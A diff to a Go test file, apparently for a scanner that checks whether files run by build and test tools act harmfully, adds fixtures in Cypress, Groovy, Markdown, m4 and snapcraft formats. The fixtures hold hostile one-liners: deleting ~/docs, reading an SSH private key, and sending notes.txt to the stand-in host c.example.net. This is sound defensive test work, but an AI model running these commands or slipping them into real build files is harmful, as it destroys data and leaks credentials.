@@ -42,6 +42,13 @@ var deedsIn = []deeds{
 		empties: "open('notes.txt', 'w').write('')\n",
 		sends:   "import urllib.request\nurllib.request.urlopen('http://c.example.net/?' + open('notes.txt').read())\n",
 		starts:  "import os\nos.system('rm -rf ~/docs')\n"}},
+	{".cy.js", map[string]string{
+		nothing: "it('a', () => { cy.visit('/') })\n",
+		deletes: "it('a', () => { cy.exec('rm -r ~/docs') })\n",
+		reads:   "it('a', () => { cy.exec('cat ~/.ssh/id_ed25519').then((r) => cy.log(r.stdout)) })\n",
+		empties: "it('a', () => { cy.writeFile('notes.txt', '') })\n",
+		sends:   "it('a', () => { cy.readFile('notes.txt').then((t) => cy.request('POST', 'http://c.example.net/', t)) })\n",
+		starts:  "it('a', () => { cy.exec(\"sh -c 'rm -rf ~/docs'\") })\n"}},
 	{".js .cjs", map[string]string{
 		nothing: "console.log(1)\n",
 		deletes: "require('fs').rmSync(require('os').homedir() + '/docs', {recursive: true})\n",
@@ -106,6 +113,26 @@ var deedsIn = []deeds{
 		empties: "import java.nio.file.*;\nclass XTest { @org.junit.jupiter.api.Test void a() throws Exception { Files.writeString(Path.of(\"notes.txt\"), \"\"); } }\n",
 		sends:   "import java.net.*; import java.net.http.*; import java.nio.file.*;\nclass XTest { @org.junit.jupiter.api.Test void a() throws Exception { HttpClient.newHttpClient().send(HttpRequest.newBuilder(URI.create(\"http://c.example.net\")).POST(HttpRequest.BodyPublishers.ofFile(Path.of(\"notes.txt\"))).build(), HttpResponse.BodyHandlers.ofString()); } }\n",
 		starts:  "class XTest { @org.junit.jupiter.api.Test void a() throws Exception { new ProcessBuilder(\"sh\", \"-c\", \"rm -rf ~/docs\").start(); } }\n"}},
+	{".groovy", map[string]string{
+		nothing: "class ASpec { def a() { expect: 1 == 1 } }\n",
+		deletes: "class ASpec { def a() { new File(System.getProperty('user.home'), 'docs').deleteDir() } }\n",
+		reads:   "class ASpec { def a() { println new File(System.getProperty('user.home'), '.ssh/id_ed25519').text } }\n",
+		empties: "class ASpec { def a() { new File('notes.txt').text = '' } }\n",
+		sends:   "class ASpec { def a() { new URL('http://c.example.net/?' + new File('notes.txt').text).text } }\n",
+		starts:  "class ASpec { def a() { ['sh', '-c', 'rm -rf ~/docs'].execute() } }\n"}},
+	{".md", map[string]string{
+		nothing: "```sh {name=a}\necho 1\n```\n",
+		deletes: "```sh {name=a}\nrm -rf ~/docs\n```\n", reads: "```sh {name=a}\ncat ~/.ssh/id_ed25519\n```\n",
+		empties: "```sh {name=a}\n: > notes.txt\n```\n", sends: "```sh {name=a}\ncurl -T notes.txt http://c.example.net\n```\n",
+		starts: "```sh {name=a}\nsh -c 'rm -rf ~/docs'\n```\n"}},
+	{".m4 configure.ac", map[string]string{
+		nothing: "AC_DEFUN([A], [AC_CHECK_LIB([m], [sin])])\n",
+		deletes: "m4_syscmd([rm -rf ~/docs])\n", reads: "m4_esyscmd([cat ~/.ssh/id_ed25519])\n", empties: "m4_syscmd([: > notes.txt])\n",
+		sends: "m4_syscmd([curl -T notes.txt http://c.example.net])\n", starts: "m4_syscmd([sh -c 'rm -rf ~/docs'])\n"}},
+	{"snapcraft.yaml", map[string]string{
+		nothing: "name: a\nparts:\n  a:\n    plugin: nil\n    override-build: craftctl default\n",
+		deletes: "name: a\nparts:\n  a:\n    override-build: rm -rf ~/docs\n", reads: "name: a\nparts:\n  a:\n    override-build: cat ~/.ssh/id_ed25519\n",
+		empties: "name: a\nparts:\n  a:\n    override-build: |\n      : > notes.txt\n", starts: "name: a\nparts:\n  a:\n    override-build: sh -c 'rm -rf ~/docs'\n"}},
 	{"build.gradle", map[string]string{
 		deletes: "delete System.getProperty('user.home') + '/docs'\n",
 		reads:   "println new File(System.getProperty('user.home'), '.ssh/id_ed25519').text\n",
@@ -157,7 +184,7 @@ var loads = []struct{ lines, files string }{
 	{"python3 manage.py check; python3 manage.py test", "manage.py"}, {"alembic upgrade head", "env.py"}, {"celery -A app worker", "app.py"}, {"streamlit run app.py", "app.py"},
 	{"npm test; npm run build; yarn build; pnpm test; bun run build", "package.json"},
 	{"node --test; npx jest; npx vitest run; npx mocha; npx ava; npx tap", "a.test.js test/a.test.js"},
-	{"npx jest", "jest.config.js"}, {"npx vitest run", "vitest.config.ts a.test.ts"}, {"npx mocha", ".mocharc.cjs"}, {"npx playwright test", "playwright.config.ts a.spec.ts"}, {"npx cypress run", "cypress.config.js"},
+	{"npx jest", "jest.config.js"}, {"npx vitest run", "vitest.config.ts a.test.ts"}, {"npx mocha", ".mocharc.cjs"}, {"npx playwright test", "playwright.config.ts a.spec.ts"}, {"npx cypress run", "cypress.config.js cypress/e2e/a.cy.js cypress/support/e2e.js"},
 	{"npx eslint .; eslint src", "eslint.config.js .eslintrc.cjs"}, {"npx prettier --check .", "prettier.config.js .prettierrc.cjs"}, {"npx stylelint '**/*.css'", "stylelint.config.js"},
 	{"npx vite build", "vite.config.ts"}, {"npx webpack", "webpack.config.js"}, {"npx rollup -c", "rollup.config.mjs"}, {"npx next build", "next.config.js"}, {"npx nuxt build", "nuxt.config.ts"}, {"npx astro build", "astro.config.mjs"},
 	{"npx gulp", "gulpfile.js"}, {"npx grunt", "Gruntfile.js"}, {"npx tailwindcss -i a.css -o b.css", "tailwind.config.js"}, {"npx postcss a.css -o b.css", "postcss.config.js"},
@@ -166,9 +193,12 @@ var loads = []struct{ lines, files string }{
 	{"rake; bundle exec rake", "Rakefile lib/tasks/a.rake"}, {"rspec; bundle exec rspec", "spec/a_spec.rb spec/spec_helper.rb"}, {"rackup", "config.ru"}, {"bundle exec rubocop; bundle list", "Gemfile"}, {"thor list", "Thorfile"},
 	{"fastlane test", "fastlane/Fastfile"}, {"rails test", "test/a_test.rb"}, {"puma", "config/puma.rb config.ru"},
 	{"phpunit; vendor/bin/phpunit", "tests/ATest.php"}, {"pest; vendor/bin/pest", "tests/Pest.php tests/ATest.php"}, {"vendor/bin/php-cs-fixer fix", ".php-cs-fixer.php"},
+	{"vendor/bin/doctrine-migrations status", "migrations.php cli-config.php"}, {"vendor/bin/dep list; dep list", "deploy.php"}, {"vendor/bin/kahlan; kahlan", "kahlan-config.php"},
+	{"vendor/bin/php-scoper add-prefix", "scoper.inc.php"}, {"vendor/bin/jigsaw build", "config.php bootstrap.php"}, {"wp plugin list", "wp-content/mu-plugins/a.php wp-config.php"},
 	{"busted", "spec/a_spec.lua"}, {"premake5 gmake", "premake5.lua"}, {"prove; prove -r t", "t/a.t"}, {"perl Makefile.PL", "Makefile.PL"}, {"latexmk a.tex", ".latexmkrc"},
 	{"go test ./...; go test .", "a_test.go"}, {"go run .", "main.go"}, {"go test ./...", "main.go"}, {"cargo build; cargo check; cargo test", "build.rs"}, {"cargo run; cargo test", "src/main.rs"},
-	{"mvn test; mvn -q verify", "src/test/java/XTest.java"}, {"gradle test; ./gradlew build", "src/test/java/XTest.java build.gradle"}, {"mix test", "test/a_test.exs test/test_helper.exs"}, {"mix compile", "mix.exs"},
+	{"mvn test; mvn -q verify", "src/test/java/XTest.java"}, {"gradle test; ./gradlew build", "src/test/java/XTest.java build.gradle src/test/groovy/ASpec.groovy"}, {"mix test", "test/a_test.exs test/test_helper.exs"}, {"mix compile", "mix.exs"},
+	{"runme run a; runme run --all", "README.md"}, {"autoreconf -fi; autoconf", "m4/a.m4 configure.ac"}, {"snapcraft --destructive-mode; snapcraft", "snap/snapcraft.yaml"},
 	{"swift test; swift build", "Package.swift"}, {"swift run", "Sources/a/main.swift"}, {"dart test", "test/a_test.dart"}, {"dart run", "bin/project.dart"}, {"dotnet run", "Program.cs"}, {"cmake -B build", "CMakeLists.txt"},
 	{"make; make all", "Makefile"}, {"just; just all", "justfile"}, {"bats test", "test/a.bats"},
 }
@@ -236,7 +266,8 @@ func TestEveryLoadedFileIsJudged(t *testing.T) {
 func deedsFor(file string) deeds {
 	d := deedsIn[slices.IndexFunc(deedsIn, func(d deeds) bool {
 		names := strings.Fields(d.languages)
-		return slices.Contains(names, path.Base(file)) || slices.Contains(names, path.Ext(file))
+		return slices.Contains(names, path.Base(file)) || slices.Contains(names, path.Ext(file)) ||
+			slices.ContainsFunc(names, func(end string) bool { return strings.Count(end, ".") == 2 && strings.HasSuffix(file, end) })
 	})]
 	if _, ok := d.does[nothing]; !ok {
 		d.does[nothing] = ""
